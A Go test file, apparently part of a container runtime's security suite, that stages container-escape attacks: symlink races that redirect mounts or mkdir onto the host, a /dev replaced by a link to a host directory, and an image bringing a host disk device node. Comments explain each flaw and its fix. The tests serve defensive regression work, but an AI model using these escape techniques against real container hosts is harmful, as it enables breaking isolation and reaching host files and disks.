package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/opencontainers/runtime-spec/specs-go"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// targetBecomesLink: CVE-2021-30465, CVE-2024-45310.
//
// Two containers share a volume, and the second mounts something below it: on /vol/a/x. The runtime looks whether that is within the
// container; it is, and then it calls mount(2) with the path, or mkdir(2) if x is missing. Between the two the first container puts a link to
// the host in the place of a. What is mounted then covers something of the host's (from where more can be had: the volume itself
// could be the host's root), and what is made is made there.
//
// The remedy is not to use a path twice: openat2(2) with RESOLVE_IN_ROOT finds the place, whatever links there are, and from then on there is a
// descriptor (rootfs, openIn and create). Let openIn go without RESOLVE_IN_ROOT, and the attack succeeds at the first tries.
func targetBecomesLink(a *arena) string {
	volume, loot := a.t.TempDir(), filepath.Join(a.t.TempDir(), "loot")
	require.NoError(a.t, os.Mkdir(volume+"/a", 0o755))
	require.NoError(a.t, os.Symlink(a.outside, volume+"/link"))
	round := 0
	bundle, _ := a.bundle("true", func(s *specs.Spec) {
		// The mounts of the container, as they are before the host's are let go.
		look := fmt.Sprintf("grep -F ' %s' /proc/self/mountinfo >>%s; true", a.outside, loot)
		s.Hooks = &specs.Hooks{CreateContainer: []specs.Hook{{Path: "/bin/sh", Args: []string{"sh", "-c", look}, Env: []string{"PATH=/usr/bin:/bin"}}}}
	})
	return a.racing(volume+"/a", volume+"/link", func() (bool, string) {
		round++
		a.edit(bundle, func(s *specs.Spec) {
			s.Mounts = append(without(s.Mounts, "/vol"), bind(volume, "/vol"))
			for i := 0; i < 10; i++ {
				s.Mounts = append(s.Mounts, specs.Mount{Source: "tmpfs", Type: "tmpfs", Destination: fmt.Sprintf("/vol/a/%d-%d/x", round, i)})
			}
		})
		r := a.runtime.Run(a.t, "run", "--bundle", bundle, "victim")
		if raw, _ := os.ReadFile(loot); len(raw) > 0 {
			return true, "it mounted on the host: " + string(raw)
		}
		return r.Code == 0, a.stolen()
	})
}

// devIsLink: CVE-2026-41579, CVE-2026-47766.
//
// The image's /dev is a link to a directory of the host's, and config.json mounts nothing there. The runtime makes the devices that every container has, and
// links, by their paths: on the host, where it also removes what is in the way. Here /dev is opened first, within the root and without
// following a link, and all that is made is made by that descriptor (rootfs, dev). Let it be opened by its path, and the attack succeeds.
func devIsLink(a *arena) string {
	bundle, root := a.noDev()
	require.NoError(a.t, os.Remove(root+"/dev"))
	require.NoError(a.t, os.Symlink(a.outside, root+"/dev"))
	r := a.runtime.RunBundle(a.t, "victim", bundle)
	if loot := a.stolen(); loot != "" {
		return loot
	}
	require.Equal(a.t, 1, r.Code, r)
	require.Contains(a.t, r.Stderr, "/dev", "it is refused by name")
	return ""
}

// devBecomesLink is the same as a race: the root file system is shared with another container.
func devBecomesLink(a *arena) string {
	bundle, root := a.noDev()
	require.NoError(a.t, os.Symlink(a.outside, root+"/link"))
	return a.racing(root+"/dev", root+"/link", func() (bool, string) {
		r := a.runtime.Run(a.t, "run", "--bundle", bundle, "victim")
		return r.Code == 0, a.stolen()
	})
}

// noDev is a bundle that mounts nothing on /dev, and whose program needs nothing there.
func (a *arena) noDev() (bundle, root string) {
	return a.bundle("true", func(s *specs.Spec) { s.Mounts = without(s.Mounts, "/dev") })
}

// imageDevice has no number, for nobody got it so wrong: the image itself brings a device file, of the host's disk or what makes disks.
// A file is no right. What a process may open is up to the device cgroup: a list of rules on cgroup v1, a program for the kernel's BPF
// machine on v2 (cgroup/devices). Leave out the step "limit the devices" (on v1, the write in cgroup/device.go), and the attack succeeds.
func imageDevice(a *arena) string {
	bundle, root := a.bundle("(: </device) && echo opened; head -c 1 /zero | od -An -tx1", nil)
	name := hostDevice(a, root+"/device")
	mknod(a.t, root+"/zero", 1, 5)
	r := a.runtime.RunBundle(a.t, "victim", bundle)
	require.Contains(a.t, r.Stdout, "00", "a device that is allowed can be used")
	if strings.Contains(r.Stdout, "opened") {
		return "the host's " + name
	}
	require.Contains(a.t, r.Stderr, "Operation not permitted", r)
	return ""
}

// hostDevice makes a device file that can be opened on this machine, and by no container.
func hostDevice(a *arena, path string) (name string) {
	for _, d := range []struct {
		name               string
		kind, major, minor uint32
	}{{"disk", unix.S_IFBLK, 254, 0}, {"disk", unix.S_IFBLK, 8, 0}, {"loop-control", unix.S_IFCHR, 10, 237}, {"fuse", unix.S_IFCHR, 10, 229}} {
		os.Remove(path)
		require.NoError(a.t, unix.Mknod(path, d.kind|0o666, int(unix.Mkdev(d.major, d.minor))))
		name = d.name
		if f, err := os.Open(path); err == nil {
			f.Close()
			return name
		}
	}
	return name // without a driver it is refused for the same reason
}
